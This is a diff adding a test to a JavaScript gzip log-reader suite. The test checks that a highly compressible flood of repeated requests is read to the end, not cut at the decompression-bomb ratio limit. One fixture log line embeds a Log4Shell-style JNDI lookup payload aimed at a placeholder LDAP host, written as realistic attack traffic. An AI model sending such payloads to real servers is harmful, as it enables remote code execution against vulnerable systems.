@@ -62,6 +62,30 @@ describe('reading an object into lines', () => {
     assert.ok(lines <= outcome.bytesOut, 'no more lines than the bytes read');
   });
 
+  it('a log that starts with thousands of identical long requests (800:1) is read to the end while its lines are requests', async () => {
+    // A client controls most of a line: the same 8 KB request sent 2,600 times is 21 MB that
+    // deflate packs 800:1, past the bomb ratio before the real traffic that follows it.
+    const flood = `203.0.113.9 - - [${timeAt(0)}] "GET /${'A'.repeat(8000)} HTTP/1.1" 404 5 "-" "curl/8"`;
+    const tail = `198.51.100.7 - - [${timeAt(9)}] "GET /?x=\${jndi:ldap://192.0.2.1/a} HTTP/1.1" 404 5 "-" "curl/8"`;
+    const gz = gzipSync(Buffer.from(`${[...Array.from({ length: 2600 }, () => flood), ...logLines(1000), tail].join('\n')}\n`));
+    for (const usable of [true, false]) {
+      const { lines, cut, sink } = collector();
+      const outcome = await readLines(chunks(gz, 64 * 1024), { ...sink, usable: () => usable });
+      if (usable) {
+        assert.equal(outcome.cutOff, undefined);
+        assert.equal(lines.length, 3601);
+        assert.equal(lines.at(-1), tail);
+      } else {
+        // A sink that says its lines are not requests (a bomb of blank lines) is cut as before.
+        assert.equal(outcome.cutOff, 'compression-ratio-limit');
+        assert.deepEqual(
+          cut.map((c) => c.reason),
+          ['compression-ratio-limit'],
+        );
+      }
+    }
+  });
+
   it('stops at the decompressed-size bound even when the ratio looks like a log', async () => {
     const gz = gzipSync(Buffer.from(`${logLines(20_000).join('\n')}\n`));
     const { lines, cut, sink } = collector();
